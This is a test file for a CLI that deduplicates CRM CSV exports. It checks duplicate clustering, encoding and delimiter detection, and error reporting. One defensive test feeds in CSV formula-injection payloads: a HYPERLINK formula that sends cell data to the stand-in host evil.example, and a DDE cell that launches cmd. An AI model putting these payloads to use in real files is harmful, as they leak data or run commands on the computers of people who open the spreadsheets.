// The real CLI entry on temporary copies of small exports (HubSpot, Salesforce in Spanish with
// semicolons and Windows-1252, Pipedrive with a BOM) and on broken files.
import iconv from 'iconv-lite';
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { runDedupe } from './cli';
import { neutraliseCell } from '../../utils/csv/write';

const FIXTURES = fileURLToPath(new URL('./__fixtures__/', import.meta.url));
const dir = mkdtempSync(join(tmpdir(), 'dealside-dedupe-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function run(fixture: string, args: string[] = []) {
  const input = join(dir, fixture);
  copyFileSync(join(FIXTURES, fixture), input);
  const out = join(dir, `out-${fixture}`);
  let stderr = '';
  const code = await runDedupe([input, '--out', out, ...args], { stderr: { write: (s: string) => (stderr += s) } });
  return { code, stderr, out, input };
}

function readCsv(path: string, encoding: 'utf8' | 'win1252' = 'utf8', delimiter = ',') {
  const bytes = readFileSync(path);
  const text = encoding === 'win1252' ? iconv.decode(bytes, 'win1252') : bytes.toString('utf8').replace(/^\uFEFF/, '');
  return Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true }).data;
}

const clusterOf = (rows: string[][], i: number) => rows[i]![rows[0]!.indexOf('cluster_id')];

describe('dedupe CLI', () => {
  it('HubSpot contacts: every row back, original columns first, duplicates clustered', async () => {
    const { code, stderr, out, input } = await run('hubspot-contacts.csv', ['--kind', 'contacts']);
    expect(code, stderr).toBe(0);
    const original = readCsv(input);
    const rows = readCsv(out);
    expect(rows.length).toBe(original.length);
    expect(rows[0]).toEqual([...original[0]!, 'cluster_id', 'match_score', 'match_reasons']);
    // every original cell back, formula-like ones (a phone such as +34 …) behind a quote
    rows.forEach((row, i) => expect(row.slice(0, original[0]!.length)).toEqual(original[i]!.map(neutraliseCell)));
    // rows 1–2 (José María / Chema), 3–4 (María José / Maria Jose), 5–6 (Robert / Bob), 9–10 (Francisco / Paco)
    for (const [a, b] of [[1, 2], [3, 4], [5, 6], [9, 10]]) expect(clusterOf(rows, a!)).toBe(clusterOf(rows, b!));
    // colleagues Ana and Juan Pérez Ruiz are two people
    expect(clusterOf(rows, 7)).not.toBe(clusterOf(rows, 8));
    expect(new Set(rows.slice(1).map((_, i) => clusterOf(rows, i + 1))).size).toBe(6);
    const reasons = rows[0]!.indexOf('match_reasons');
    expect(rows[5]![reasons]).toMatch(/^duplicate of row 7: same phone \+ name 1\.00 \(nickname\)/);
    expect(Number(rows[1]![rows[0]!.indexOf('match_score')])).toBeGreaterThan(0.9);
    expect(stderr).toMatch(/10 rows, 9 columns, UTF-8, "," delimited/);
    expect(stderr).toMatch(/6 clusters/);
  });

  it('Salesforce in Spanish: semicolons and Windows-1252 in, the same out', async () => {
    const { code, stderr, out, input } = await run('salesforce-contacts-es-win1252.csv', ['--kind', 'contacts', '--lang', 'es']);
    expect(code, stderr).toBe(0);
    expect(stderr).toMatch(/Windows-1252, ";" delimited/);
    expect(stderr).toMatch(/givenName="Nombre", familyName="Apellidos", email="Correo electrónico"/);
    const original = readCsv(input, 'win1252', ';');
    const rows = readCsv(out, 'win1252', ';');
    expect(rows[0]).toEqual([...original[0]!, 'cluster_id', 'match_score', 'match_reasons']);
    expect(rows[1]![0]).toBe('Íñigo');
    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2)); // Íñigo Urquijo Azcárate / Iñigo Urquijo
    expect(clusterOf(rows, 3)).toBe(clusterOf(rows, 4)); // María Dolores Núñez / Lola Núñez
    expect(rows[2]![rows[0]!.indexOf('match_reasons')]).toMatch(/^duplicado de la fila 2: .*mismo teléfono/);
    expect(readFileSync(out).includes(Buffer.from('\r\n'))).toBe(true);
  });

  it('Pipedrive with a BOM: "Person - Name" columns and several e-mails in one cell', async () => {
    const { code, stderr, out } = await run('pipedrive-persons-bom.csv', ['--kind', 'contacts', '--default-country', 'CO']);
    expect(code, stderr).toBe(0);
    expect(stderr).toMatch(/UTF-8 with BOM/);
    expect(stderr).toMatch(/fullName="Person - Name"/);
    expect([...readFileSync(out).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = readCsv(out);
    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2)); // Ignacio / Nacho Fernández
    expect(clusterOf(rows, 3)).toBe(clusterOf(rows, 4)); // Dolores / Lola Quispe
    expect(clusterOf(rows, 5)).not.toBe(clusterOf(rows, 1));
  });

  it('HubSpot companies: legal forms, www and paths, namesakes in other countries', async () => {
    const { code, stderr, out } = await run('hubspot-companies.csv', ['--kind', 'accounts']);
    expect(code, stderr).toBe(0);
    const rows = readCsv(out);
    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2));
    expect(clusterOf(rows, 3)).toBe(clusterOf(rows, 4));
    expect(clusterOf(rows, 5)).not.toBe(clusterOf(rows, 6));
  });

  it('a job change names the companies as the rows write them; a group and its subsidiary are linked, not merged', async () => {
    const io = { stderr: { write: () => undefined } };
    const people = join(dir, 'job-change.csv');
    writeFileSync(
      people,
      'First Name,Last Name,Email,Company,LinkedIn\n' +
        'Lucía,Ortega Ruiz,lortega@iberialogistica.es,Iberia Logística S.L.,https://es.linkedin.com/in/lucia-ortega-ruiz\n' +
        'Lucia,Ortega,lucia.ortega@northwind.com,Northwind Logistics Inc.,linkedin.com/in/lucia-ortega-ruiz/\n',
    );
    const outPeople = join(dir, 'out-job-change.csv');
    expect(await runDedupe([people, '--kind', 'contacts', '--out', outPeople], io)).toBe(0);
    const rows = readCsv(outPeople);
    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2));
    expect(rows[2]![rows[0]!.indexOf('match_reasons')]).toMatch(/moved from Iberia Logística S\.L\. to Northwind Logistics Inc\./);

    const companies = join(dir, 'group.csv');
    writeFileSync(companies, 'Company name,Company Domain Name,Country,City\nGrupo Sigma,sigma.com.pe,Peru,Lima\nSigma Global SAC,www.sigma.com.pe,Peru,Lima\n');
    const outCompanies = join(dir, 'out-group.csv');
    expect(await runDedupe([companies, '--kind', 'accounts', '--out', outCompanies], io)).toBe(0);
    const accounts = readCsv(outCompanies);
    expect(clusterOf(accounts, 1)).not.toBe(clusterOf(accounts, 2));
    expect(accounts[2]![accounts[0]!.indexOf('match_reasons')]).toMatch(/^same group as row 2: same group: the parent company, not the same company/);
  });

  it('--map names a column the automatic mapping cannot know', async () => {
    const input = join(dir, 'custom.csv');
    writeFileSync(input, 'Alias,Buzón,Org\nPepe Pérez,pepe@acme.es,Acme\nJosé Pérez,PEPE@acme.es,ACME SA\n');
    const out = join(dir, 'out-custom.csv');
    let stderr = '';
    const io = { stderr: { write: (s: string) => (stderr += s) } };
    expect(await runDedupe([input, '--kind', 'contacts', '--out', out], io)).toBe(2);
    expect(stderr).toMatch(/no recognisable name or e-mail column: found "Alias", "Buzón", "Org"/);
    stderr = '';
    expect(await runDedupe([input, '--kind', 'contacts', '--out', out, '--map', 'fullName=Alias,email=buzon', '--map', 'companyName=Org'], io)).toBe(0);
    const rows = readCsv(out);
    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2));
    expect(await runDedupe([input, '--out', out, '--map', 'email=Nope'], io)).toBe(2);
    expect(stderr).toMatch(/--map email: no column "Nope"/);
  });

  it.each([
    ['bad-quote.csv', /line 3, column 2 "Last Name": quoted field is not closed/],
    ['bad-columns.csv', /line 3, column 4: 4 columns but the header has 3/],
    ['no-columns.csv', /no recognisable name or e-mail column: found "Foo", "Bar"/],
  ])('%s: exit code 2 naming the row and column', async (fixture, message) => {
    const { code, stderr } = await run(fixture, ['--kind', 'contacts']);
    expect(code).toBe(2);
    expect(stderr).toMatch(message);
  });

  it('UTF-16 without a byte-order mark: exit code 2 naming the encoding; with a BOM it is read and written back as UTF-16', async () => {
    const text = 'First Name,Last Name,Email\r\nJosé,García,jose@acme.es\r\nJose,Garcia,JOSE@acme.es\r\n';
    let stderr = '';
    const io = { stderr: { write: (s: string) => (stderr += s) } };
    const noBom = join(dir, 'utf16-nobom.csv');
    writeFileSync(noBom, Buffer.from(text, 'utf16le'));
    expect(await runDedupe([noBom, '--out', join(dir, 'o1.csv')], io)).toBe(2);
    expect(stderr).toMatch(/UTF-16 LE without a byte-order mark/);
    const withBom = join(dir, 'utf16-bom.csv');
    writeFileSync(withBom, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
    const out = join(dir, 'o2.csv');
    stderr = '';
    expect(await runDedupe([withBom, '--out', out], io), stderr).toBe(0);
    expect(stderr).toMatch(/2 rows, 3 columns, UTF-16 LE, "," delimited/);
    const bytes = readFileSync(out);
    expect([...bytes.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    const rows = Papa.parse<string[]>(bytes.subarray(2).toString('utf16le'), { skipEmptyLines: true }).data;
    expect(rows[1]!.slice(0, 3)).toEqual(['José', 'García', 'jose@acme.es']);
    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2));
  });

  it('a byte that is not UTF-8 far into the file: the whole file is read again as Windows-1252', async () => {
    const lines = ['First Name,Last Name,Email'];
    for (let i = 0; i < 20_000; i++) lines.push(`Ana${i},Lopez,ana${i}@example.com`);
    lines.push('Íñigo,Núñez,inigo@example.com');
    const input = join(dir, 'late-win1252.csv');
    writeFileSync(input, iconv.encode(`${lines.join('\r\n')}\r\n`, 'win1252'));
    const out = join(dir, 'o3.csv');
    let stderr = '';
    expect(await runDedupe([input, '--out', out], { stderr: { write: (s: string) => (stderr += s) } }), stderr).toBe(0);
    expect(stderr).toMatch(/20001 rows, 3 columns, Windows-1252/);
    const rows = readCsv(out, 'win1252');
    expect(rows.length).toBe(20_002);
    expect(rows.at(-1)!.slice(0, 2)).toEqual(['Íñigo', 'Núñez']);
  }, 60_000);

  it('formula injection: hostile cells and headers are written neutralised (OWASP), the rest as read', async () => {
    const input = join(dir, 'hostile.csv');
    writeFileSync(
      input,
      [
        'First Name,Last Name,=Email,Notes',
        'Ana,López,ana@acme.es,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
        'Ana,Lopez,ANA@acme.es,+1+cmd|\' /C calc\'!A0',
        '@SUM(1+1),-Pérez,x@acme.es,"\t=1+1"',
      ].join('\r\n'),
    );
    const out = join(dir, 'out-hostile.csv');
    let stderr = '';
    expect(await runDedupe([input, '--out', out, '--map', 'email==Email'], { stderr: { write: (s: string) => (stderr += s) } }), stderr).toBe(0);
    const text = readFileSync(out, 'utf8');
    expect(text.split('\r\n')[0]).toBe(`First Name,Last Name,"'=Email",Notes,cluster_id,match_score,match_reasons`);
    const rows = readCsv(out);
    expect(rows[1]![3]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
    expect(rows[2]![3]).toBe(`'+1+cmd|' /C calc'!A0`);
    expect(rows[3]!.slice(0, 4)).toEqual(["'@SUM(1+1)", "'-Pérez", 'x@acme.es', "'\t=1+1"]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2));
  });

  it('--out may name the input file: it is read in full before it is replaced', async () => {
    const { input } = await run('hubspot-contacts.csv', ['--kind', 'contacts']);
    const original = readCsv(input);
    let stderr = '';
    expect(await runDedupe([input, '--out', input], { stderr: { write: (s: string) => (stderr += s) } }), stderr).toBe(0);
    const rows = readCsv(input);
    expect(rows.length).toBe(original.length);
    expect(rows[0]!.slice(-3)).toEqual(['cluster_id', 'match_score', 'match_reasons']);
  });

  it('usage errors exit with code 2', async () => {
    let stderr = '';
    const io = { stderr: { write: (s: string) => (stderr += s) } };
    expect(await runDedupe(['x.csv'], io)).toBe(2);
    expect(stderr).toMatch(/--out <file> is required/);
    expect(await runDedupe([join(dir, 'missing.csv'), '--out', 'y.csv'], io)).toBe(2);
    expect(stderr).toMatch(/cannot read .*missing\.csv: ENOENT/);
    expect(await runDedupe(['x.csv', '--out', 'y.csv', '--kind', 'deals'], io)).toBe(2);
  });
});
